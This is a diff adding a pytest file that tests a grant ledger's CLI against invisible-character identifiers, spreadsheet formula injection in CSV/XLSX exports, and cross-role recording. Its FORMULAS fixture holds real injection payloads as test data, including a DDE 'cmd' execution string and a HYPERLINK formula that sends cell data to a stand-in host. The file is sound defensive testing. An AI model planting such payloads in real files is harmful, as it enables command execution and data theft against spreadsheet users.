@@ -1,0 +1,304 @@
+"""The one write path under attack: characters that hide in identifiers, cells that a spreadsheet
+would run as formulas, and the promises of the import (one role, all or nothing, repeats) at the
+edges of the new row kinds. Every check goes through the command line."""
+
+from __future__ import annotations
+
+import shutil
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from tests.conftest import Ledger, approved_district_grant
+from tests.importdata import HEADER
+from tests.test_actions import _csv_line, _stored
+
+ID_RULE = "must be 1 to 64 characters without control characters"
+VOUCHER_RULE = "must be 1 to 128 characters without control characters"
+
+
+@pytest.fixture(scope="module")
+def funded_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A ledger file with G1 approved and 12万 of its subsidy received."""
+    path = tmp_path_factory.mktemp("funded") / "ledger.db"
+    ledger = Ledger(f"sqlite:///{path}", CliRunner())
+    approved_district_grant(ledger)
+    ledger.ok("disburse", "G1", "--amount", "12万", "--voucher", "T1", "--date", "2024-04-10")
+    return path
+
+
+def _two_ledgers(funded_file: Path, folder: Path) -> tuple[Ledger, Ledger]:
+    ledgers = []
+    for name in ("imported.db", "typed.db"):
+        shutil.copy(funded_file, folder / name)
+        ledgers.append(Ledger(f"sqlite:///{folder / name}", CliRunner()))
+    return ledgers[0], ledgers[1]
+
+
+def _spend_both_ways(funded_file: Path, folder: Path, voucher: str, grant: str = "G1") -> tuple:
+    imported, typed = _two_ledgers(funded_file, folder)
+    book = folder / "books.csv"
+    cells = ["2024-05-10", "", "", grant, "", "spend", "100", "subsidy", "equipment", "", voucher, "", ""]
+    book.write_text(f"{HEADER}\n{_csv_line(cells)}\n", encoding="utf-8")
+    by_file = imported("import", str(book))
+    by_hand = typed("spend", grant, "--amount", "100", "--category", "equipment", "--voucher", voucher,
+                    "--date", "2024-05-10")  # fmt: skip
+    return imported, typed, by_file, by_hand
+
+
+# Each looks like S1 (or nothing at all) on a screen and in a printed voucher list.
+HIDDEN = {
+    "zero-width space": "S1\u200b",
+    "zero-width joiner inside": "S\u200d1",
+    "right-to-left override": "S\u202e1",
+    "byte-order mark": "\ufeffS1",
+    "soft hyphen": "S\u00ad1",
+    "word joiner": "S\u20601",
+    "next line (C1 control)": "S\x851",
+    "line separator inside": "S\u20281",
+    "unit separator at the start": "\x1fS1",
+    "record separator at the end": "S1\x1e",
+}
+
+
+@pytest.mark.parametrize("name", list(HIDDEN))
+def test_a_voucher_hiding_an_invisible_character_is_refused_by_the_file_and_the_command_alike(
+    funded_file: Path, tmp_path: Path, name: str
+) -> None:
+    """Taken, "S1" with a zero-width space is a second expenditure under the number S1 already
+    has: the same payment recorded twice, and no voucher list shows why. The importer also used to
+    strip U+001C..U+001F off a cell's ends, recording what the command refused. (The file names
+    the cell and the character, the command its option and the rule: the same refusal.)"""
+    voucher = HIDDEN[name]
+    imported, typed, by_file, by_hand = _spend_both_ways(funded_file, tmp_path, voucher)
+    assert by_hand.exit_code == 2, by_hand.stdout
+    assert f"--voucher: {VOUCHER_RULE} (got {voucher!r})" in by_hand.stderr
+    assert by_file.exit_code == 2, by_file.stdout
+    hidden = next(c for c in voucher if c not in "S1")
+    assert f"books.csv:2: voucher holds a control character (U+{ord(hidden):04X})" in by_file.stderr
+    assert _stored(imported.url) == _stored(typed.url) == _stored(f"sqlite:///{funded_file}")
+
+
+def test_a_grant_id_with_a_zero_width_space_is_refused_not_reported_missing(
+    funded_file: Path, tmp_path: Path
+) -> None:
+    grant = "G1\u200b"
+    _, _, by_file, by_hand = _spend_both_ways(funded_file, tmp_path, "S1", grant=grant)
+    assert by_hand.exit_code == by_file.exit_code == 2
+    assert f"GRANT_ID: {ID_RULE} (got {grant!r})" in by_hand.stderr
+    assert "books.csv:2: grant_id holds a control character (U+200B)" in by_file.stderr
+
+
+@pytest.mark.parametrize("padded", [" S1 ", "\u00a0S1", "S1\u3000", "\u2028S1\u2029", "\tS1\n"])
+def test_white_space_around_a_voucher_is_taken_off_by_both_paths_alike(
+    funded_file: Path, tmp_path: Path, padded: str
+) -> None:
+    imported, typed, by_file, by_hand = _spend_both_ways(funded_file, tmp_path, padded)
+    assert by_hand.exit_code == by_file.exit_code == 0, (by_hand.stderr, by_file.stderr)
+    assert _stored(imported.url) == _stored(typed.url)
+    assert _stored(typed.url)[-1][1]["voucher"] == "S1"
+
+
+def test_a_memo_hiding_a_bidirectional_override_is_refused_by_both_paths(
+    funded_file: Path, tmp_path: Path
+) -> None:
+    """An override reverses what follows it on screen: 'pay 0001 to' can print as 'pay 1000 to'."""
+    memo = "付款\u202e0001"
+    imported, typed = _two_ledgers(funded_file, tmp_path)
+    cells = ["2024-05-10", "", "", "G1", "", "spend", "100", "subsidy", "equipment", "", "S1", "", memo]
+    book = tmp_path / "books.csv"
+    book.write_text(f"{HEADER}\n{_csv_line(cells)}\n", encoding="utf-8")
+    by_file = imported("import", str(book))
+    by_hand = typed("spend", "G1", "--amount", "100", "--category", "equipment", "--voucher", "S1",
+                    "--memo", memo, "--date", "2024-05-10")  # fmt: skip
+    rule = "must be at most 500 characters without control characters"
+    assert by_hand.exit_code == by_file.exit_code == 2
+    assert f"--memo: {rule}" in by_hand.stderr
+    assert "books.csv:2: memo holds a control character (U+202E)" in by_file.stderr
+    assert _stored(imported.url) == _stored(typed.url) == _stored(f"sqlite:///{funded_file}")
+
+
+# ----------------------------------------------------------------------------- formulas in exports
+
+# What a spreadsheet runs when the file is opened: each starts a formula in Excel and LibreOffice.
+FORMULAS = {
+    "unit": '=cmd|" /C calc"!A0',
+    "base": '+渝中区"培训",基地',
+    "payee": '=HYPERLINK("http://evil.example/?d="&A1,"发票")',
+    "memo": "@SUM(1+1)\t备注",
+    "content": "-2+3",
+    "voucher": "''=记-1",  # two apostrophes of its own: read back as typed
+}
+
+
+def _hostile_books(ledger: Ledger) -> None:
+    """G1 with names, a payee, a memo and a voucher a spreadsheet would run; G2 approved with no
+    money at all."""
+    for grant, base, unit in (("G1", "B0001", "U1"), ("G2", "B0002", "@U2")):
+        ledger.ok("unit", "register", unit, "--name", FORMULAS["unit"], "--date", "2024-02-01")
+        ledger.ok("grant", "apply", grant, "--unit", unit, "--base", base, "--base-name", FORMULAS["base"],
+                  "--programme", "district_base", "--project", "电工", "--amount", "20万",
+                  "--date", "2024-03-01")  # fmt: skip
+        ledger.ok("grant", "review", grant, "--panel", "5", "--recommendation", "recommend",
+                  "--date", "2024-03-08", role="approver")  # fmt: skip
+        ledger.ok("grant", "notice", grant, "--from", "2024-03-11", "--to", "2024-03-15", role="approver")
+        ledger.ok("grant", "approve", grant, "--amount", "200000", "--document", f"=渝人社{grant}",
+                  "--date", "2024-04-01", role="approver")  # fmt: skip
+    ledger.ok("disburse", "G1", "--amount", "12万", "--voucher", "-T1", "--date", "2024-04-10")
+    ledger.ok("spend", "G1", "--amount", "1000.01", "--category", "equipment",
+              "--voucher", FORMULAS["voucher"], "--payee", FORMULAS["payee"], "--memo", FORMULAS["memo"],
+              "--content", FORMULAS["content"],
+              "--date", "2024-05-10")  # fmt: skip
+    ledger.ok("spend", "G1", "--amount", "99.99", "--category", "materials", "--voucher", "@S2",
+              "--date", "2024-05-11")  # fmt: skip
+    ledger.ok("reverse", "G1", "--voucher", "@S2", "--reason", "=重复入账", "--date", "2024-05-12")
+    ledger.ok("recover", "order", "G1", "--amount", "500", "--reason", "-违规", "--document", "+追-1",
+              "--date", "2024-06-01", role="approver")  # fmt: skip
+    ledger.ok("recover", "receive", "G1", "--amount", "500", "--voucher", "=缴-1", "--date", "2024-06-10")
+    ledger.ok("dispose", "G1", "--source", "subsidy", "--amount", "0.01", "--how", "returned",
+              "--approval", "@批-9", "--date", "2024-06-20")  # fmt: skip
+
+
+def _runs_formulas(cells: list[object]) -> bool:
+    return any(isinstance(c, str) and c[:1] in ("=", "+", "-", "@") for c in cells)
+
+
+def test_the_csv_export_writes_no_cell_a_spreadsheet_would_run_and_round_trips_exactly(
+    sqlite_ledger: Ledger, tmp_path: Path
+) -> None:
+    import csv
+
+    _hostile_books(sqlite_ledger)
+    exported = sqlite_ledger.ok("export", "--format", "csv").stdout
+    path = tmp_path / "books.csv"
+    path.write_text(exported, encoding="utf-8")
+    with path.open(encoding="utf-8", newline="") as f:
+        rows = list(csv.reader(f))
+    assert not [row for row in rows if _runs_formulas(row)]
+    spend = next(row for row in rows if row[5] == "spend")
+    assert spend[10:13] == ["'''=记-1", f"'{FORMULAS['payee']}", f"'{FORMULAS['memo']}"]
+    other = Ledger(f"sqlite:///{tmp_path / 'other.db'}", CliRunner())
+    other.import_ok(path)
+    assert other.balances() == sqlite_ledger.balances()
+    assert other.ok("export", "--format", "csv").stdout == exported
+    report = ("report", "sources", "--format", "json")
+    assert other.ok(*report).stdout == sqlite_ledger.ok(*report).stdout
+
+
+def test_the_xlsx_export_and_its_runs_hold_text_not_formulas_and_round_trip_exactly(
+    sqlite_ledger: Ledger, tmp_path: Path
+) -> None:
+    """openpyxl writes a str starting with '=' as a formula: Excel ran it on opening, and the
+    import (reading the cells' values) read it as an empty cell, dropping the payee silently."""
+    from openpyxl import load_workbook
+
+    _hostile_books(sqlite_ledger)
+    exported = sqlite_ledger.ok("export", "--format", "csv").stdout
+    runs = tmp_path / "runs"
+    sqlite_ledger.ok("export", "--format", "xlsx", "--runs", str(runs))
+    files = sorted(runs.iterdir())
+    assert [f.name for f in files] == ["01-approver.xlsx", "02-officer.xlsx", "03-approver.xlsx",
+                                       "04-officer.xlsx"]  # fmt: skip
+    other = Ledger(f"sqlite:///{tmp_path / 'other.db'}", CliRunner())
+    for path in files:
+        book = load_workbook(path)
+        cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
+        assert not [c.coordinate for c in cells if c.data_type == "f"], path.name
+        assert not _runs_formulas([c.value for c in cells]), path.name
+        other.ok("import", str(path), role=path.stem.split("-")[1])
+    assert other.balances() == sqlite_ledger.balances()
+    assert other.ok("export", "--format", "csv").stdout == exported
+
+
+def test_a_report_workbook_holds_a_base_name_as_text_not_as_a_formula(
+    sqlite_ledger: Ledger, tmp_path: Path
+) -> None:
+    from openpyxl import load_workbook
+
+    sqlite_ledger.ok("unit", "register", "U1", "--name", "单位", "--date", "2024-02-01")
+    sqlite_ledger.ok("grant", "apply", "G1", "--unit", "U1", "--base", "B0001", "--base-name", "=1+1",
+                     "--programme", "district_base", "--project", "电工", "--amount", "20万",
+                     "--date", "2024-03-01")  # fmt: skip
+    out = tmp_path / "balance.xlsx"
+    sqlite_ledger.ok("balance", "--format", "xlsx", "--output", str(out))
+    cells = [cell for row in load_workbook(out).worksheets[0].iter_rows() for cell in row]
+    assert "=1+1" in [c.value for c in cells if c.data_type == "s"]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+
+
+# ----------------------------------------------------------------------------- one role per act
+
+# Every act a person records, typed as its command, with the role that records it.
+D = ("--date", "2024-06-30")
+ACTS = [
+    ("officer", ["unit", "register", "U9", "--name", "单位U9", *D]),
+    ("officer", ["grant", "apply", "G9", "--unit", "U1", "--base", "B0009", "--programme", "district_base",
+                 "--project", "电工", "--amount", "20万", *D]),
+    ("officer", ["grant", "budget", "G1", "--line", "training_system:地方财政:10万", *D]),
+    ("officer", ["disburse", "G1", "--amount", "1万", "--voucher", "T9", *D]),
+    ("officer", ["match", "commit", "G1", "--amount", "1万", "--funder", "单位U1", "--voucher", "MC9", *D]),
+    ("officer", ["match", "receive", "G1", "--amount", "1万", "--voucher", "MR9", *D]),
+    ("officer", ["spend", "G1", "--amount", "100", "--category", "equipment", "--voucher", "S9", *D]),
+    ("officer", ["reverse", "G1", "--voucher", "S9", "--reason", "重复入账", *D]),
+    ("officer", ["recover", "receive", "G1", "--amount", "100", "--voucher", "RR9", *D]),
+    ("officer", ["dispose", "G1", "--source", "subsidy", "--amount", "100", "--how", "returned",
+                 "--approval", "批-9", *D]),
+    ("officer", ["output", "report", "G1", "--year", "2024", "--trainees", "10", *D]),
+    ("officer", ["rectify", "complete", "G1", "--ref", "R9", *D]),
+    ("officer", ["dossier", "add", "G1", "--kind", "summary", "--title", "总结", "--file", "{file}", *D]),
+    ("approver", ["grant", "recommend", "G1", "--by", "区人社局", "--round", "2024", *D]),
+    ("approver", ["grant", "review", "G1", "--panel", "5", "--recommendation", "recommend", *D]),
+    ("approver", ["grant", "notice", "G1", "--from", "2024-03-11", "--to", "2024-03-15", *D]),
+    ("approver", ["grant", "approve", "G1", "--amount", "200000", "--document", "渝人社-9", *D]),
+    ("approver", ["grant", "reject", "G1", "--reason", "评审未通过", *D]),
+    ("approver", ["grant", "adjust", "G1", "--line", "training_system:地方财政:12万",
+                  "--approval", "批-8", *D]),
+    ("approver", ["evaluate", "G1", "--kind", "mid_term", "--result", "pass", *D]),
+    ("approver", ["rectify", "order", "G1", "--ref", "R9", "--finding", "台账不全", "--deadline",
+                  "2024-09-30", *D]),
+    ("approver", ["recover", "order", "G1", "--amount", "100", "--reason", "违规", "--document", "追-9", *D]),
+    ("approver", ["grant", "close", "G1", *D]),
+]  # fmt: skip
+
+
+def test_no_command_lets_one_role_record_another_roles_act_and_an_auditor_records_nothing(
+    funded_file: Path, tmp_path: Path
+) -> None:
+    shutil.copy(funded_file, tmp_path / "ledger.db")
+    ledger = Ledger(f"sqlite:///{tmp_path / 'ledger.db'}", CliRunner())
+    document = tmp_path / "总结.pdf"
+    document.write_bytes(b"%PDF-1.4 summary")
+    before = _stored(ledger.url)
+    for owner, command in ACTS:
+        args = [str(document) if a == "{file}" else a for a in command]
+        for role in {"officer", "approver", "auditor"} - {owner}:
+            result = ledger(*args, role=role)
+            assert result.exit_code == 3, (role, args, result.stdout, result.stderr)
+            assert f"the {role} role may not record '" in result.stderr, (role, args, result.stderr)
+            by = "an officer" if owner == "officer" else "an approver"
+            assert f"it is recorded by {by}" in result.stderr
+        assert "role may not record" not in ledger(*args, role=owner).stderr, (owner, args)
+    assert len(_stored(ledger.url)) > len(before)  # the owners' acts were taken (most of them)
+    assert {"officer", "approver"} == {owner for owner, _ in ACTS}
+
+
+@pytest.mark.parametrize("role", ["officer", "approver", "auditor"])
+def test_a_file_mixing_both_roles_acts_writes_nothing_whoever_imports_it(
+    funded_file: Path, tmp_path: Path, role: str
+) -> None:
+    shutil.copy(funded_file, tmp_path / "ledger.db")
+    ledger = Ledger(f"sqlite:///{tmp_path / 'ledger.db'}", CliRunner())
+    rows = [
+        ["2024-06-01", "", "B0001", "G1", "", "recover_order", "500", "subsidy", "", "", "追-1", "", "违规"],
+        ["2024-06-10", "", "B0001", "G1", "", "recover_receive", "500", "subsidy", "", "", "缴-1", "", ""],
+        ["2024-06-20", "", "B0001", "G1", "", "dispose", "100", "subsidy", "", "", "批-1", "", "returned"],
+    ]
+    book = tmp_path / "books.csv"
+    book.write_text("\n".join([HEADER, *map(_csv_line, rows)]) + "\n", encoding="utf-8")
+    before = _stored(ledger.url)
+    result = ledger("import", str(book), role=role)
+    assert result.exit_code == 3, result.stdout
+    assert f"the {role} role may not record '" in result.stderr
+    assert "nothing was imported" in result.stderr
+    assert _stored(ledger.url) == before
